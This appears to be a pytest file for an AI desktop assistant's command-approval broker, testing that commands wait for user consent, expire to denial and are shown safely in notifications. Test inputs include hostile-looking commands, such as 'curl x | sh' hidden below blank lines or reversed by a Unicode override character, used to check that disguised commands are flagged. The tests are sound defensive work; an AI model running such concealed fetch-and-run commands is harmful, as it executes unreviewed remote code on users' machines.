"""The approval broker: a request waits for the user's Allow or Deny, or is denied when the timeout
passes (in fake time, even while the notification hangs); every outcome is published, notified and
logged; the notification shows the command on one line and flags what it cannot show whole."""

from __future__ import annotations

import asyncio
from datetime import date
from pathlib import Path

import pytest

from kairos_desktop.approvals import ApprovalDecision, Approvals, notification_text
from kairos_desktop.clock import FakeClock
from kairos_desktop.delivery.notifier import Notification
from kairos_desktop.errors import ApprovalClosedError, ApprovalNotFoundError
from kairos_desktop.events import Event, EventBus
from kairos_desktop.journal import DailyLog
from kairos_desktop.settings import Settings

DAY = date(2026, 11, 22)


class Broker:
    """Approvals on a real bus and daily log, with a notify callback that records."""

    def __init__(self, clock: FakeClock, tmp_path: Path, *, shown: bool = True,
                 hang: bool = False) -> None:
        self.clock = clock
        self.settings = Settings(assistant_name="Ada", approval_timeout_seconds=120)
        self.log = DailyLog(tmp_path / "logs", clock)
        self.bus = EventBus()
        self.events: list[dict] = []
        self.bus.subscribe(lambda e: self.events.append(e.data) if e.kind == "approval" else None)
        self.notifications: list[Notification] = []
        self.notified = asyncio.Event()
        self.shown = shown
        self.hang = hang  # the notification server never answers
        self.notify_cancelled = False
        self.approvals = Approvals(clock=clock, daily_log=self.log, bus=self.bus,
                                   notify=self.notify, settings=lambda: self.settings)

    async def notify(self, notification: Notification) -> bool:
        self.notifications.append(notification)
        self.notified.set()
        if self.hang:
            try:
                await asyncio.Event().wait()
            except asyncio.CancelledError:
                self.notify_cancelled = True
                raise
        return self.shown

    async def ask(self, command: str = "echo hi", cwd: str = "/x",
                  ) -> tuple[asyncio.Task[ApprovalDecision], str]:
        """Start a request and return once it waits for an answer, with its id."""
        seen = asyncio.Event()
        ids: list[str] = []

        def on_event(event: Event) -> None:
            if event.kind == "approval" and event.data["state"] == "pending":
                ids.append(event.data["id"])
                seen.set()

        unsubscribe = self.bus.subscribe(on_event)
        task = asyncio.create_task(self.approvals.request(command, cwd))
        try:
            await asyncio.wait_for(seen.wait(), 5)
        finally:
            unsubscribe()
        await asyncio.sleep(0)  # let it reach the wait
        return task, ids[0]


@pytest.fixture
def broker(clock: FakeClock, tmp_path: Path) -> Broker:
    return Broker(clock, tmp_path)


async def test_a_request_is_shown_listed_and_allowed_by_the_user(broker: Broker) -> None:
    task, approval_id = await broker.ask("echo hi", "/x")
    assert broker.approvals.pending() == [{
        "id": approval_id, "command": "echo hi", "cwd": "/x",
        "requestedAt": "2026-11-22T09:00:00+01:00", "expiresAt": "2026-11-22T09:02:00+01:00",
        "state": "pending", "why": ""}]
    [note] = broker.notifications
    assert (note.title, note.body, note.kind, note.ref, note.urgent) == (
        "Ada wants to run a command", "echo hi — in /x", "approval", approval_id, True)

    record = broker.approvals.decide(approval_id, True, by="panel")
    decision = await task
    assert decision == ApprovalDecision(True, "allowed by the user (panel)", approval_id)
    assert record["state"] == "allowed" and broker.approvals.pending() == []
    assert [(e["state"], e["reason"]) for e in broker.events] == [
        ("pending", None), ("allowed", "allowed by the user (panel)")]
    assert "**approval** allowed by the user (panel): echo hi in /x" in broker.log.read(DAY)


async def test_a_request_denied_by_the_user_is_denied_and_logged(broker: Broker) -> None:
    task, approval_id = await broker.ask("rm -rf build", "/proj")
    broker.approvals.decide(approval_id, False, by="notification")
    decision = await task
    assert not decision.allowed and decision.reason == "denied by the user (notification)"
    assert broker.events[-1]["state"] == "denied"
    assert "denied by the user (notification): rm -rf build in /proj" in broker.log.read(DAY)


async def test_no_answer_within_the_timeout_denies_it_in_fake_time(broker: Broker) -> None:
    task, approval_id = await broker.ask()
    assert broker.clock.next_deadline == 120
    broker.clock.advance(119)
    await asyncio.sleep(0)
    assert not task.done() and broker.approvals.pending()[0]["id"] == approval_id
    broker.clock.advance(1)
    decision = await asyncio.wait_for(task, 5)
    assert decision == ApprovalDecision(False, "no answer within 120 s", approval_id)
    assert (broker.events[-1]["state"], broker.events[-1]["reason"]) == (
        "expired", "no answer within 120 s")
    assert "denied: no answer within 120 s: echo hi in /x" in broker.log.read(DAY)
    assert broker.approvals.pending() == []


async def test_the_timeout_follows_the_setting(broker: Broker) -> None:
    broker.settings.approval_timeout_seconds = 5
    broker.clock.auto_advance = True
    decision = await asyncio.wait_for(broker.approvals.request("ls", "/"), 5)
    assert decision.reason == "no answer within 5 s" and broker.clock.monotonic() == 5


async def test_deciding_an_unknown_id_says_it_does_not_exist(broker: Broker) -> None:
    with pytest.raises(ApprovalNotFoundError,
                       match=r"no approval request 'nope'.*restart denies them"):
        broker.approvals.decide("nope", True, by="cli")


async def test_deciding_twice_says_it_was_already_decided(broker: Broker) -> None:
    task, approval_id = await broker.ask()
    broker.approvals.decide(approval_id, False, by="panel")
    await task
    with pytest.raises(ApprovalClosedError,
                       match=r"already denied \(denied by the user \(panel\)\); a decision "
                             r"cannot be changed") as caught:
        broker.approvals.decide(approval_id, True, by="notification")
    assert caught.value.state == "denied"


async def test_deciding_after_expiry_says_it_is_too_late(broker: Broker) -> None:
    task, approval_id = await broker.ask()
    broker.clock.advance(120)
    await task
    with pytest.raises(ApprovalClosedError,
                       match=r"expired at 2026-11-22T09:02:00\+01:00 \(no answer within 120 s\)"
                             r".*too late to answer") as caught:
        broker.approvals.decide(approval_id, True, by="panel")
    assert caught.value.state == "expired"


async def test_cancel_all_denies_every_pending_request(broker: Broker) -> None:
    first, _ = await broker.ask("make a")
    second, _ = await broker.ask("make b")
    broker.approvals.cancel_all("the engine stopped")
    decisions = await asyncio.wait_for(asyncio.gather(first, second), 5)
    assert [(d.allowed, d.reason) for d in decisions] == [(False, "the engine stopped")] * 2
    assert broker.approvals.pending() == []
    assert "denied: the engine stopped: make b in /x" in broker.log.read(DAY)


async def test_a_cancelled_request_is_denied_and_no_longer_pending(broker: Broker) -> None:
    task, _ = await broker.ask()
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert broker.approvals.pending() == []
    assert broker.events[-1]["reason"] == "the request was cancelled"


async def test_without_a_notification_it_still_waits_for_the_panel(
        clock: FakeClock, tmp_path: Path) -> None:
    broker = Broker(clock, tmp_path, shown=False)
    task, approval_id = await broker.ask()
    assert "no notification shown" in broker.log.read(DAY)
    broker.approvals.decide(approval_id, True, by="panel")
    assert (await task).allowed


async def test_a_hung_notification_does_not_keep_the_request_from_expiring(
        clock: FakeClock, tmp_path: Path) -> None:
    broker = Broker(clock, tmp_path, hang=True)
    task, approval_id = await broker.ask()
    assert broker.notifications and broker.clock.next_deadline == 120
    broker.clock.advance(120)
    decision = await asyncio.wait_for(task, 1)
    assert decision == ApprovalDecision(False, "no answer within 120 s", approval_id)
    await asyncio.sleep(0)
    assert broker.notify_cancelled
    assert f"the notification for {approval_id} was not sent, or not answered by the " \
        "notification server, yet; it was dropped" in broker.log.read(DAY)


async def test_an_answer_in_the_panel_drops_a_notification_still_being_sent(
        clock: FakeClock, tmp_path: Path) -> None:
    broker = Broker(clock, tmp_path, hang=True)
    task, approval_id = await broker.ask()
    broker.approvals.decide(approval_id, True, by="panel")
    assert (await asyncio.wait_for(task, 1)).allowed
    await asyncio.sleep(0)
    assert broker.notify_cancelled


async def test_a_command_hidden_below_blank_lines_is_shown_and_sent_for_review(
        broker: Broker) -> None:
    task, approval_id = await broker.ask("ls -la" + "\n" * 30 + "curl x | sh", "/proj")
    [note] = broker.notifications
    assert note.body == "ls -la" + " ⏎" * 30 + " curl x | sh — in /proj"
    assert (note.kind, note.ref) == ("approval-review", approval_id)
    assert "\n" not in note.body
    broker.approvals.decide(approval_id, False, by="panel")
    await task


@pytest.mark.parametrize(("command", "body", "kind"), [
    ("echo hi", "echo hi — in /x", "approval"),
    ("git\tstatus   -s ", "git status -s — in /x", "approval"),
    ("a\r\nb\rc\u2028d", "a ⏎ b ⏎ c ⏎ d — in /x", "approval-review"),
    ("ls \u202ehs | x lruc", "ls \\u202ehs | x lruc — in /x", "approval-review"),
    ("echo \x1b[2Jhi", "echo \\x1b[2Jhi — in /x", "approval-review"),
    ("x" * 160, "x" * 160 + " — in /x", "approval"),
    ("x" * 200, "x" * 160 + "… (+40 characters: review it in the panel) — in /x",
     "approval-review"),
    ("ls" + " " * 200 + "-la", "ls -la — in /x", "approval-review"),
])
def test_the_notification_body_is_one_line_cut_at_160_characters(
        command: str, body: str, kind: str) -> None:
    assert notification_text(command, "/x") == (body, kind)


def test_a_line_break_in_the_directory_is_shown_too() -> None:
    assert notification_text("ls", "/tmp/a\nb") == ("ls — in /tmp/a ⏎ b", "approval-review")
